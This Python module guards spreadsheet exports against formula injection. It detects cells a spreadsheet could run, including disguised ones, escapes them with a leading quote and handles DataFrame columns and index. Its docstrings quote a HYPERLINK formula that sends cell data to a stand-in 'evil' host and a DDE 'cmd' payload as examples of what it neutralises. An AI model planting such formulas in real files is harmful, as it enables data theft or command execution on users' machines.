"""One policy for text cells that a spreadsheet could run: which to neutralise, and how.

A spreadsheet reads a cell beginning with ``=``, ``+``, ``-``, ``@`` (and, in some, ``|`` or
``%``) as a formula, even after leading spaces, and a leading tab, CR or LF can hide it. Values
that came from a server are untrusted: a title such as ``=HYPERLINK("http://evil/?"&A1)`` must
reach the auditor as text, and so must one in disguise: a full-width ``＝``, a minus sign ``−``,
or a ``=`` behind invisible characters (a byte-order mark, a zero-width space). The policy
touches **text only**: numbers (a negative number too) and text that is a plain number
(``"-3"``) are left alone, as nothing can run in them.

Pure: no I/O. CSV applies :func:`safe_cell` (a leading ``'``); Excel keeps the value and marks the
cell with a quote-prefix style (:func:`risky`); HTML escapes everything instead.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Mapping
from typing import Any, Literal

import numpy as np
import pandas as pd

from mediaframe.exceptions import InvalidParameterError

__all__ = [
    "FORMULA_POLICIES",
    "FormulaPolicy",
    "indexed",
    "plain_text",
    "risky",
    "safe_cell",
    "safe_frame",
]

FormulaPolicy = Literal["escape", "off"]
#: ``escape`` (the default) neutralises risky text; ``off`` writes it as it is (trusted data).
FORMULA_POLICIES: tuple[FormulaPolicy, ...] = ("escape", "off")

# A leading control character is risky whatever follows; otherwise the first character after
# whitespace and control characters decides.
_RISKY = re.compile(r"[\t\r\n\x00]|[\s\x00-\x1f]*[=+\-@|%]")
# The first character past them that is not ASCII: it may be one in disguise (see _disguised).
_FOREIGN = re.compile(r"[\s\x00-\x1f]*[^\x00-\x7f]")
_FORMULA_STARTS = "=+-@|%\u2212"  # U+2212, the minus sign, which some spreadsheets take for -
_NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*")


def risky(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula.

    Examples
    --------
    >>> risky("=1+1"), risky("  @SUM(A1)"), risky("\\t=x"), risky("-3"), risky("sunset")
    (True, True, True, False, False)
    """
    if not _RISKY.match(text) and not (_FOREIGN.match(text) and _disguised(text)):
        return False
    return text[:1] in "\t\r\n\x00" or not _NUMBER.fullmatch(
        unicodedata.normalize("NFKC", text).replace("\u2212", "-")
    )


def _disguised(text: str) -> bool:
    """Whether ``text`` starts with a formula character in disguise: a full-width ``＝`` or
    ``＋`` (a spreadsheet may fold it to ``=``, ``+``), the minus sign, or one behind invisible
    format characters (a byte-order mark, a zero-width space, a direction override)."""
    for char in text:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", char)[:1] in _FORMULA_STARTS
    return False


def safe_cell(value: Any, policy: FormulaPolicy = "escape") -> Any:
    """``value`` as a CSV cell may hold it: risky text gets a leading ``'``, the rest is kept.

    Examples
    --------
    >>> safe_cell("=cmd|' /C calc'!A0"), safe_cell(-3), safe_cell("-3"), safe_cell("Ada")
    ("'=cmd|' /C calc'!A0", -3, '-3', 'Ada')
    """
    _check_policy(policy)
    if policy == "escape" and isinstance(value, str) and risky(value):
        return "'" + value
    return value


def plain_text(value: Any) -> Any:
    """A list, tuple, set or mapping as one text (lists ``"; "``-joined); other values as given."""
    if isinstance(value, list | tuple | set | frozenset | np.ndarray):
        return "; ".join("" if v is None else str(v) for v in value)
    if isinstance(value, Mapping):
        return json.dumps(value, ensure_ascii=False, default=str, sort_keys=True)
    return value


def risky_mask(column: pd.Series) -> pd.Series:
    """Which cells of ``column`` are risky text (all ``False`` for a column of numbers)."""
    if not _textual(column):
        return pd.Series(False, index=column.index)
    return column.map(lambda v: isinstance(v, str) and risky(v)).astype(bool)


def safe_frame(frame: pd.DataFrame, policy: FormulaPolicy = "escape") -> pd.DataFrame:
    """A copy of ``frame`` fit for CSV: nested values as text, risky text and names neutralised.

    Columns of numbers, dates and booleans are kept as they are, dtypes included.
    """
    _check_policy(policy)
    names: list[str] = []
    columns: list[pd.Series] = []
    for index in range(frame.shape[1]):
        # by position: two columns of one name (or names alike once neutralised) are both kept
        column = frame.iloc[:, index]
        if _textual(column):
            column = column.astype(object).map(plain_text)
            if policy == "escape":
                column = column.map(safe_cell)
        names.append(str(safe_cell(str(frame.columns[index]), policy)))
        columns.append(column.reset_index(drop=True))
    out = pd.concat(columns, axis=1, ignore_index=True) if columns else pd.DataFrame()
    out.index = frame.index
    out.columns = pd.Index(names, dtype=object)
    out.attrs.update(frame.attrs)
    return out


def indexed(frame: pd.DataFrame, index: bool | None = None) -> pd.DataFrame:
    """``frame`` with its index as leading columns when the index holds data, so that an
    export (which writes columns) keeps it; else ``frame`` itself.

    ``index=None`` decides: an index holds data when a level is named (a ``groupby``,
    ``value_counts`` or ``set_index`` result) or its labels are not integers; row numbers,
    even with gaps left by a filter, are not written. ``True`` always writes it, ``False`` never.

    Examples
    --------
    >>> counts = pd.DataFrame({"media_type": ["image", "video", "image"]}).value_counts()
    >>> indexed(counts.to_frame()).columns.tolist()
    ['media_type', 'count']
    """
    if index is None:
        labels = frame.index
        index = any(name is not None for name in labels.names) or not (
            pd.api.types.is_integer_dtype(labels.dtype) or len(labels) == 0
        )
    if not index:
        return frame
    names = [f"level_{n}" if name is None else name for n, name in enumerate(frame.index.names)]
    if frame.index.nlevels == 1 and frame.index.names[0] is None:
        names = ["index"]
    # a level that repeats its column (set_index(..., drop=False)) goes; one that only shares
    # its name is renamed: a file with two columns of one name reads back as one
    repeated = [
        level
        for level, name in enumerate(names)
        if name in frame.columns and _same(frame.index.get_level_values(level), frame[name])
    ]
    names = [f"{name} (index)" if name in frame.columns else name for name in names]
    out = frame.rename_axis(names)
    if repeated:
        out = out.reset_index(level=repeated, drop=True)
    out = out.reset_index(drop=len(repeated) == len(names))
    out.attrs.update(frame.attrs)
    return out


def _same(values: pd.Index, column: object) -> bool:
    return isinstance(column, pd.Series) and values.equals(pd.Index(column))


def _textual(column: pd.Series) -> bool:
    """Whether ``column`` may hold text: any but numbers, booleans, dates and durations.

    Decided by what it cannot hold rather than by what it can, so that a text dtype not listed
    (pyarrow's dictionary of strings, as ``read_parquet(dtype_backend="pyarrow")`` gives for a
    categorical, a sparse column of objects) is still checked, value by value.
    """
    dtype = column.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        dtype = dtype.categories.dtype
    return not (
        pd.api.types.is_numeric_dtype(dtype) or getattr(dtype, "kind", "O") in ("b", "m", "M")
    )


def _check_policy(policy: str) -> None:
    if policy not in FORMULA_POLICIES:
        raise InvalidParameterError(
            f"formula_policy must be one of {FORMULA_POLICIES}, not {policy!r}"
        )
